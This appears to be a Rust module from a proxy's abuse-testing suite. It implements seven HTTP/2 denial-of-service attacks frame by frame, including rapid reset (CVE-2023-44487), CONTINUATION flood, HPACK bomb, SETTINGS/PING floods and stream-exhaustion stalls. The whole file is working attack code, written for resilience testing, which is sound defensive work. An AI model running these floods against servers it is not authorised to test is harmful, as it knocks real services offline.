//! The known HTTP/2 attacks on one connection, written frame by frame ([`super::h2raw`]):
//! rapid reset (CVE-2023-44487), CONTINUATION flood, HPACK bomb, SETTINGS and PING floods,
//! zero-window stalls and stream-count exhaustion. Used by the `h2_abuse` behaviour and by
//! the proxy's abuse tests. The attacker never reads (floods rely on the server queueing
//! answers); it stops when the server closes or resets, when a write stalls for good, or at
//! the deadline.

use super::h2raw::{self, END_HEADERS, END_STREAM, kind};
use serde::{Deserialize, Serialize};
use std::time::{Duration, Instant};
use tokio::io::{AsyncWrite, AsyncWriteExt};

/// Which attack.
#[derive(Serialize, Deserialize, Clone, Copy, Debug, PartialEq, Eq, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum H2Attack {
    /// HEADERS then RST_STREAM(CANCEL) for stream after stream (CVE-2023-44487).
    RapidReset,
    /// One HEADERS without END_HEADERS, then CONTINUATION frames without end.
    ContinuationFlood,
    /// A 4 KB field put in the HPACK dynamic table, then header blocks referring to it
    /// thousands of times (each block decodes to megabytes).
    HpackBomb,
    /// SETTINGS frames without end (each needs an ACK).
    SettingsFlood,
    /// PING frames without end (each needs an ACK).
    PingFlood,
    /// SETTINGS_INITIAL_WINDOW_SIZE 0, then requests whose responses can never be sent.
    ZeroWindow,
    /// Streams opened (HEADERS without END_STREAM) and never finished, as many as possible.
    StreamExhaustion,
}

impl H2Attack {
    /// Every attack, in a fixed order.
    pub const ALL: [H2Attack; 7] = [
        H2Attack::RapidReset,
        H2Attack::ContinuationFlood,
        H2Attack::HpackBomb,
        H2Attack::SettingsFlood,
        H2Attack::PingFlood,
        H2Attack::ZeroWindow,
        H2Attack::StreamExhaustion,
    ];

    /// The name used in plans and reports.
    pub fn name(self) -> &'static str {
        match self {
            H2Attack::RapidReset => "rapid_reset",
            H2Attack::ContinuationFlood => "continuation_flood",
            H2Attack::HpackBomb => "hpack_bomb",
            H2Attack::SettingsFlood => "settings_flood",
            H2Attack::PingFlood => "ping_flood",
            H2Attack::ZeroWindow => "zero_window",
            H2Attack::StreamExhaustion => "stream_exhaustion",
        }
    }
}

/// How an attack connection ended and how much it sent.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackEnd {
    /// `closed_by_server` (a write failed), `write_stalled` (the server stopped reading),
    /// `held_to_end` (the deadline came first).
    pub end: &'static str,
    /// Frames written.
    pub frames: u64,
    /// Bytes written.
    pub bytes: u64,
}

/// Frames per write.
const BATCH: usize = 64;

/// Runs `attack` on `io` (a fresh connection, nothing sent yet) until `hold` has passed.
/// `authority` and `path` go into the requests.
pub async fn run<S: AsyncWrite + Unpin>(
    io: &mut S,
    attack: H2Attack,
    authority: &str,
    path: &str,
    hold: Duration,
) -> AttackEnd {
    let deadline = Instant::now() + hold;
    let mut w = Writer {
        frames: 0,
        bytes: 0,
    };
    let mut first = h2raw::PREFACE.to_vec();
    let initial_window = if attack == H2Attack::ZeroWindow {
        0
    } else {
        65_535
    };
    h2raw::settings(&mut first, &[(4, initial_window)]);
    let mut st = State::new(attack, authority, path);
    let mut buf = first;
    let end = loop {
        if Instant::now() >= deadline {
            break "held_to_end";
        }
        let frames = st.next_batch(&mut buf);
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left.min(Duration::from_secs(2)), io.write_all(&buf)).await {
            Ok(Ok(())) => w.count(frames, buf.len()),
            Ok(Err(_)) => break "closed_by_server",
            Err(_) if Instant::now() >= deadline => break "held_to_end",
            Err(_) => break "write_stalled",
        }
        buf.clear();
        if st.idle() {
            // Stall attacks: everything is open; hold the connection without writing.
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    };
    AttackEnd {
        end,
        frames: w.frames,
        bytes: w.bytes,
    }
}

struct Writer {
    frames: u64,
    bytes: u64,
}

impl Writer {
    fn count(&mut self, frames: usize, bytes: usize) {
        self.frames += frames as u64;
        self.bytes += bytes as u64;
    }
}

/// The attack's progress: the next stream id and the blocks it reuses.
struct State {
    attack: H2Attack,
    stream: u32,
    block: Vec<u8>,
    started: bool,
}

/// Streams a stall attack opens before it only holds the connection.
const STALL_STREAMS: u32 = 1000;

impl State {
    fn new(attack: H2Attack, authority: &str, path: &str) -> State {
        State {
            attack,
            stream: 1,
            block: h2raw::get_block(authority, path),
            started: false,
        }
    }

    fn idle(&self) -> bool {
        matches!(
            self.attack,
            H2Attack::ZeroWindow | H2Attack::StreamExhaustion
        ) && self.stream > 2 * STALL_STREAMS
    }

    /// Appends the next frames to `out`; returns how many.
    fn next_batch(&mut self, out: &mut Vec<u8>) -> usize {
        match self.attack {
            H2Attack::RapidReset => {
                for _ in 0..BATCH / 2 {
                    h2raw::frame(
                        out,
                        kind::HEADERS,
                        END_HEADERS | END_STREAM,
                        self.stream,
                        &self.block,
                    );
                    h2raw::frame(out, kind::RST_STREAM, 0, self.stream, &8u32.to_be_bytes());
                    self.stream += 2;
                }
                BATCH
            }
            H2Attack::ContinuationFlood => {
                let mut filler = Vec::new();
                for i in 0..64 {
                    h2raw::literal(&mut filler, format!("x-flood-{i}").as_bytes(), &[b'a'; 200]);
                }
                if !self.started {
                    self.started = true;
                    h2raw::frame(out, kind::HEADERS, 0, 1, &self.block);
                }
                for _ in 0..BATCH / 8 {
                    h2raw::frame(out, kind::CONTINUATION, 0, 1, &filler);
                }
                BATCH / 8
            }
            H2Attack::HpackBomb => self.hpack_bomb(out),
            H2Attack::SettingsFlood => {
                for i in 0..BATCH as u32 {
                    h2raw::settings(out, &[(3, 100 + i % 7), (4, 65_535)]);
                }
                BATCH
            }
            H2Attack::PingFlood => {
                for i in 0..BATCH as u64 {
                    h2raw::frame(out, kind::PING, 0, 0, &i.to_be_bytes());
                }
                BATCH
            }
            H2Attack::ZeroWindow | H2Attack::StreamExhaustion => self.stall(out),
        }
    }

    fn hpack_bomb(&mut self, out: &mut Vec<u8>) -> usize {
        let mut block = self.block.clone();
        if !self.started {
            self.started = true;
            h2raw::literal_indexed(&mut block, b"x-bomb", &[b'b'; 4000]);
        }
        // Index 62: the newest dynamic-table entry (the 4 KB field).
        block.extend(std::iter::repeat_n(0x80 | 62u8, 16_000));
        h2raw::frame(
            out,
            kind::HEADERS,
            END_HEADERS | END_STREAM,
            self.stream,
            &block[..block.len().min(16_384)],
        );
        self.stream += 2;
        1
    }

    fn stall(&mut self, out: &mut Vec<u8>) -> usize {
        if self.stream > 2 * STALL_STREAMS {
            return 0;
        }
        let flags = if self.attack == H2Attack::ZeroWindow {
            END_HEADERS | END_STREAM
        } else {
            END_HEADERS
        };
        for _ in 0..BATCH {
            h2raw::frame(out, kind::HEADERS, flags, self.stream, &self.block);
            self.stream += 2;
        }
        BATCH
    }
}
